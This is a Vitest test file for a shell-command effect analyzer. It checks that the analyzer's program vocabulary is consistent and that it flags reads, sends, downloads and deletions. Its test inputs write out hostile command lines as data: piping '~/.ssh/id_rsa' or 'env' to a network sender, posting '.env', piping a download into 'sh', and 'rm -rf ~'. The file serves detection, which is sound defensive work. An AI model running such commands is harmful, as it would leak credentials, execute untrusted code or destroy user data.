import { describe, expect, it } from 'vitest';

import type { Effect } from '../../../../../src/core/terms/effect';
import { lineEffects } from '../../../../../src/core/reading/effects/lineEffects';
import { DOWNLOADERS } from '../../../../../src/core/reading/programs/downloaders';
import { INERT, isPackageQuery } from '../../../../../src/core/reading/programs/inertPrograms';
import {
	programFamilies,
	type ProgramTraits,
	programsThatRunCode,
	programsWith,
	traitsOf,
} from '../../../../../src/core/reading/programs/vocabulary';
import { POSIX_SHELLS, POWERSHELLS } from '../../../../../src/core/reading/shell/embeddedScripts';
import {
	interpreterCode,
	interpreterLanguage,
} from '../../../../../src/core/reading/shell/interpreterCode';
import { analyze } from '../../../../support/shellAnalyzer';

async function effectsOf(line: string): Promise<Effect[]> {
	return lineEffects((await analyze(line)).commands);
}

const has = (effects: readonly Effect[], kind: Effect['kind'], target: string): boolean =>
	effects.some((effect) => effect.kind === kind && (effect.path ?? effect.subject) === target);

/** Traits that say a program's words are run or read, which an inert program's never are. */
const ACTIVE: readonly (keyof ProgramTraits)[] = [
	'reads',
	'writes',
	'deletes',
	'runsCommands',
	'shell',
	'interpreter',
	'sends',
	'downloads',
	'service',
	'projectRunner',
	'packageManager',
	'dataStore',
];

describe('the program vocabulary declares each family once, without contradictions', () => {
	it('names programs as they are looked up: lower-case, no path, no .exe', () => {
		for (const family of programFamilies()) {
			for (const name of family.names) {
				expect(name, name).toBe(name.toLowerCase());
				expect(name, name).not.toMatch(/[\\/]|\.exe$/);
			}
		}
	});

	it('never calls a program inert whose words it also runs, reads or sends', () => {
		for (const name of programsWith('inert')) {
			const traits = traitsOf(name) ?? {};
			const active = ACTIVE.filter((trait) => traits[trait] !== undefined);
			expect(active, `${name} is inert but ${active.join(', ')}`).toEqual([]);
		}
	});

	it('gives every interpreter of one language the same options for code', () => {
		const byLanguage = new Map<string, string>();
		for (const name of programsWith('interpreter')) {
			const interpreter = traitsOf(name)?.interpreter;
			const options = JSON.stringify(interpreter?.codeOptions);
			const earlier = byLanguage.get(interpreter?.language ?? '');
			expect(earlier ?? options, name).toBe(options);
			byLanguage.set(interpreter?.language ?? '', options);
		}
	});

	it('leaves wrappers out of the programs whose words are followed as code, unless they are also a shell', () => {
		for (const name of programsThatRunCode()) {
			const traits = traitsOf(name);
			if (traits?.runsCommands === 'wrapper') {
				// `busybox sh -c …` is a shell; `busybox rm x` is peeled like any wrapper.
				expect(traits.shell ?? traits.interpreter, name).toBeDefined();
			}
		}
		expect(programsThatRunCode().has('sudo')).toBe(false);
		expect(programsThatRunCode().has('bash')).toBe(true);
	});

	it('has an HTTP client download as well as send', () => {
		for (const name of programsWith('sends', 'http')) {
			expect(traitsOf(name)?.downloads, name).toBe(true);
		}
	});
});

describe('every list the readers use is the vocabulary’s, so they cannot disagree', () => {
	it('derives shells, interpreters, downloaders and inert programs from it', () => {
		expect([...POSIX_SHELLS].sort()).toEqual([...programsWith('shell', 'posix')].sort());
		expect([...POWERSHELLS].sort()).toEqual([...programsWith('shell', 'powershell')].sort());
		expect([...DOWNLOADERS].sort()).toEqual([...programsWith('downloads')].sort());
		expect([...INERT].sort()).toEqual([...programsWith('inert')].sort());
		for (const name of programsWith('interpreter')) {
			expect(interpreterLanguage(name), name).toBe(traitsOf(name)?.interpreter?.language);
		}
	});

	it('has every sender send what a pipe feeds it, the whole environment included', async () => {
		for (const sender of programsWith('sends')) {
			const piped = await effectsOf(`cat ~/.ssh/id_rsa | ${sender} example.com`);
			expect(has(piped, 'send', '~/.ssh/id_rsa'), sender).toBe(true);
			const environment = await effectsOf(`env | ${sender} example.com`);
			expect(has(environment, 'send', 'credentials'), sender).toBe(true);
		}
	});

	it('has every HTTP client send the files its request names', async () => {
		for (const client of programsWith('sends', 'http')) {
			const effects = await effectsOf(`${client} POST https://example.com @.env`);
			expect(has(effects, 'send', '.env'), client).toBe(true);
		}
	});

	it('has every downloader piped into a shell run downloaded code', async () => {
		for (const downloader of programsWith('downloads')) {
			const effects = await effectsOf(`${downloader} https://example.com/x.sh | sh`);
			expect(has(effects, 'exec', 'downloadedCode'), downloader).toBe(true);
		}
	});

	it('has every POSIX shell run its -c string', async () => {
		for (const shell of POSIX_SHELLS) {
			const line = shell === 'busybox' ? `busybox sh -c 'rm -rf ~'` : `${shell} -c 'rm -rf ~'`;
			expect(has(await effectsOf(line), 'delete', '~'), shell).toBe(true);
		}
	});

	it('reads the code option of every interpreter that has one', () => {
		for (const name of programsWith('interpreter')) {
			const option = traitsOf(name)?.interpreter?.codeOptions[0];
			if (option?.startsWith('-')) {
				expect(interpreterCode([name, option, 'x = 1'])?.code, name).toBe('x = 1');
			}
		}
	});

	it('has every reader read the file it is given', async () => {
		for (const reader of programsWith('reads')) {
			const alone = await effectsOf(`${reader} .env`);
			const afterProgram = await effectsOf(`${reader} x .env`);
			expect(has(alone, 'read', '.env') || has(afterProgram, 'read', '.env'), reader).toBe(true);
		}
	});

	it('reads nothing from an inert program’s words', async () => {
		for (const name of INERT) {
			const effects = await effectsOf(`${name} ~/.ssh/id_rsa`);
			expect(
				effects.filter((effect) => effect.path !== undefined),
				name,
			).toEqual([]);
		}
	});

	it('takes a package manager’s install for a package name', () => {
		for (const name of programsWith('packageManager')) {
			expect(isPackageQuery([name, 'install', 'left-pad']), name).toBe(true);
		}
	});

	it('treats a heredoc fed to a text sink as data', async () => {
		for (const sink of programsWith('textSink')) {
			const effects = await effectsOf(`${sink} <<'EOF'\nrm -rf ~\nEOF`);
			expect(has(effects, 'delete', '~'), sink).toBe(false);
		}
	});
});

describe('derived lists', () => {
	const everyName = [...new Set(programFamilies().flatMap((family) => family.names))];
	const traitNames = [
		...new Set(programFamilies().flatMap((family) => Object.keys(family))),
	].filter((trait): trait is keyof ProgramTraits => trait !== 'names');

	it('holds exactly the programs whose merged traits have the trait, for every trait', () => {
		for (const trait of traitNames) {
			const expected = everyName.filter((name) => traitsOf(name)?.[trait] !== undefined);
			expect([...programsWith(trait)].sort(), trait).toEqual(expected.sort());
		}
	});

	it('selects by a word or flag value as the merged traits say, a later declaration winning', () => {
		for (const trait of traitNames) {
			const values = new Set(
				everyName
					.map((name) => traitsOf(name)?.[trait])
					.filter((value) => typeof value === 'string' || typeof value === 'boolean'),
			);
			for (const value of values) {
				const expected = everyName.filter((name) => traitsOf(name)?.[trait] === value);
				const derived = programsWith(trait as 'shell', value as 'posix');
				expect([...derived].sort(), `${trait}=${String(value)}`).toEqual(expected.sort());
			}
		}
	});

	it('hands every caller the same set, built once', () => {
		expect(programsWith('sends', 'http')).toBe(programsWith('sends', 'http'));
	});
});
